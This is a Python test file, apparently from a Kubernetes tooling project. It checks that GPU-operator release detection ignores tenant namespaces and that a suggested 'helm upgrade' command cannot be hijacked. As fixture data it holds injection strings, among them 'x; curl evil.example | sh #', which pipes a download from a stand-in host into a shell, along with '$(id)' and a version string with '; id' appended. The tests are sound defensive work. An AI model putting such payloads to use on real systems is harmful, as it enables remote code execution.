"""Whose word counts about a release: what a tenant calls the operator, in a namespace of the tenant's, is nobody's."""

from __future__ import annotations

import asyncio
import shlex
import time
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest

from seatrial.adapters.kube.api import config as configs
from seatrial.adapters.kube.api.client import Client
from seatrial.adapters.kube.reading import releases, table
from seatrial.adapters.kube.reading.fleet import FleetObserver
from seatrial.adapters.kube.reading.follower_places import is_place_of
from seatrial.adapters.kube.reading.followers import application_item, release_item, toolkit_item
from seatrial.adapters.kube.shapes import keys
from seatrial.adapters.kube.shapes.gitops_models import Application, OperatorDeployment, Subscription, ToolkitObject
from seatrial.adapters.kube.streams.row import Where
from seatrial.core.compat.matrix import Component
from seatrial.core.model.seen.operators import OperatorFacts
from seatrial.core.movers.releases import command_of
from seatrial_lab.testbed.plane.control_plane import ControlPlane
from tests.adapters.kube.test_release_items import CHART, HELM
from tests.builders import an_operator

GPU = Component.GPU_OPERATOR
OPERATORS, TENANT = "release-operators", "a-tenant-of-releases"
WHERE = Where(namespace=OPERATORS, home="ours")
SHELL = "x; curl evil.example | sh #"


def a_deployment(namespace: str, version: str, notes: dict[str, str], **labels: str) -> dict[str, Any]:
    pods = {"app": "gpu-operator"}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {
            "name": "gpu-operator",
            "namespace": namespace,
            "labels": {"app.kubernetes.io/name": "gpu-operator", "helm.sh/chart": f"gpu-operator-{version}"} | labels,
            "annotations": notes,
        },
        "spec": {
            "selector": {"matchLabels": pods},
            "replicas": 0,
            "template": {
                "metadata": {"labels": pods},
                "spec": {"containers": [{"name": "one", "image": "registry.example/one"}]},
            },
        },
    }


# ── on a real API server ─────────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def forged(plane: ControlPlane) -> Iterator[ControlPlane]:
    """A Deployment of the operator, and one of a tenant that bears its label and comes before it by name."""
    spaces = [{"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}} for name in (TENANT, OPERATORS)]
    theirs = a_deployment(TENANT, "v99.9.9", {"meta.helm.sh/release-name": SHELL})
    plane.apply([*spaces, theirs, a_deployment(OPERATORS, "v25.3.4", {"meta.helm.sh/release-namespace": SHELL})])
    yield plane
    plane.kubectl("delete", "namespace", TENANT, OPERATORS, "--wait=false")


@pytest.mark.cluster
async def test_a_tenant_s_deployment_with_the_operator_s_label_is_no_release_and_puts_no_command_into_a_sentence(
    forged: ControlPlane,
) -> None:
    config = configs.load_config(kubeconfig=str(forged.kubeconfig), environ={})
    async with (
        Client(config, user_agent="test-releases") as client,
        FleetObserver(client, (*table.MOVED, table.DEPLOYMENTS), namespace=OPERATORS, on_fault=print) as observer,
        asyncio.timeout(30),
    ):
        while not (found := list(observer.streams[table.DEPLOYMENTS].store)):
            await observer.wait(time.time() + 1)
        items = {table.DEPLOYMENTS: found}
        seen = releases.with_releases(OperatorFacts(), lambda row: items.get(row, []), observer.streams.where)
    (release,) = seen.releases
    assert (release.version, release.name, release.namespace) == ("v25.3.4", "", OPERATORS)
    said = command_of(release, GPU, "v25.10.0")
    assert said == (
        f"helm upgrade gpu-operator nvidia/gpu-operator --namespace {OPERATORS} --version v25.10.0 "
        "--reset-then-reuse-values"
    )


# ── which places count ───────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("component", "namespaces"),
    [
        (GPU, (OPERATORS,)),
        (Component.NETWORK_OPERATOR, (OPERATORS, keys.NETWORK_NAMESPACE)),
        (Component.DRA_DRIVER, (OPERATORS, *keys.DRA_NAMESPACES)),
        (Component.VALIDATOR, ()),
        (None, ()),
    ],
)
def test_every_operator_has_its_own_namespaces(component: Component | None, namespaces: tuple[str, ...]) -> None:
    every = (OPERATORS, TENANT, keys.NETWORK_NAMESPACE, *keys.DRA_NAMESPACES)
    assert tuple(each for each in every if is_place_of(WHERE, component, each)) == namespaces


def test_a_dra_driver_counts_where_the_controller_looks_for_plugins() -> None:
    where = Where(namespace=OPERATORS, home="ours", dra=("mine",))
    assert is_place_of(where, Component.DRA_DRIVER, "mine")
    assert not is_place_of(where, Component.DRA_DRIVER, keys.DRA_NAMESPACES[0])


@pytest.mark.parametrize(("namespace", "is_kept"), [(OPERATORS, True), (TENANT, False)])
def test_a_subscription_counts_in_the_operator_s_namespace_alone(namespace: str, is_kept: bool) -> None:
    body = {"metadata": {"name": "gpu", "namespace": namespace}, "spec": {"name": "gpu-operator-certified"}}
    assert (table.SUBSCRIPTIONS.slim(WHERE)(msgspec.convert(body, Subscription)) is not None) is is_kept


@pytest.mark.parametrize(("namespace", "is_kept"), [(OPERATORS, True), (TENANT, False)])
def test_a_deployment_that_says_it_is_olm_s_counts_in_the_operator_s_namespace_alone(
    namespace: str, is_kept: bool
) -> None:
    meta = {"name": "gpu", "namespace": namespace, "labels": {"olm.owner": "gpu-operator-certified.v99.9.9"}}
    item = table.OWNED_DEPLOYMENTS.slim(WHERE)(msgspec.convert({"metadata": meta}, OperatorDeployment))
    assert (item is not None) is is_kept


# ── what says which release is wanted ────────────────────────────────────────────────────────────────────────────────


def held(namespace: str, kind: str, **labels: str) -> tuple[str, ...]:
    """What holds a release, where one lies in this namespace and the operator's Deployment bears these labels."""
    meta = {"name": "gpu", "namespace": namespace}
    row: Any = table.HELM_RELEASES if kind == "HelmRelease" else table.APPLICATIONS
    if kind == "HelmRelease":
        body = {"metadata": meta, "spec": {"chart": {"spec": {**CHART["spec"], "chart": "gpu-operator"}}}}
        item = toolkit_item("HelmRelease")(msgspec.convert(body, ToolkitObject))
    else:
        body = {"metadata": meta, "spec": {"source": {**HELM, "chart": "gpu-operator"}}}
        item = application_item(msgspec.convert(body, Application))
    raw = msgspec.convert(a_deployment(OPERATORS, "v25.3.4", {}, **labels), OperatorDeployment)
    items: dict[Any, list[Any]] = {row: [item], table.DEPLOYMENTS: [release_item(raw)]}
    found = releases.with_releases(an_operator(), lambda row: items.get(row, []), WHERE)
    return tuple(each.resource for each in found.holders)


@pytest.mark.parametrize(
    ("kind", "namespace"),
    [("HelmRelease", OPERATORS), ("HelmRelease", "flux-system"), ("Application", "argocd"), ("Application", OPERATORS)],
)
def test_a_holder_counts_beside_the_operator_and_beside_its_engine(kind: str, namespace: str) -> None:
    assert held(namespace, kind) == (f"{kind}/{namespace}/gpu",)


@pytest.mark.parametrize("kind", ["HelmRelease", "Application"])
def test_a_tenant_s_holder_of_the_operator_s_chart_holds_nothing(kind: str) -> None:
    assert held(TENANT, kind) == ()
    assert held(TENANT, kind, **{"app.kubernetes.io/instance": "gpu"}) == (), "a name is no namespace"


def test_a_holder_elsewhere_counts_where_the_operator_s_own_deployment_names_it() -> None:
    flux = "helm.toolkit.fluxcd.io"
    assert held("infra", "HelmRelease", **{f"{flux}/name": "gpu", f"{flux}/namespace": "infra"})
    assert not held("infra", "HelmRelease", **{f"{flux}/name": "gpu", f"{flux}/namespace": "elsewhere"})


# ── the command that people are asked to run ─────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("said", [SHELL, "Name", "-f", "a b", "$(id)", "a" * 254, "", "a..b", "naïve"])
def test_what_is_no_name_of_an_object_is_not_taken_for_helm_s_name(said: str) -> None:
    notes = {"meta.helm.sh/release-name": said, "meta.helm.sh/release-namespace": said}
    item = release_item(msgspec.convert(a_deployment(OPERATORS, "v25.3.4", notes), OperatorDeployment))
    assert item.facts is not None
    assert (item.facts.name, item.facts.namespace) == ("", OPERATORS)


def test_a_version_that_a_shell_would_obey_is_one_word_of_the_command() -> None:
    assert shlex.split(command_of(None, GPU, "v25.10.0; id"))[6:8] == ["--version", "v25.10.0; id"]
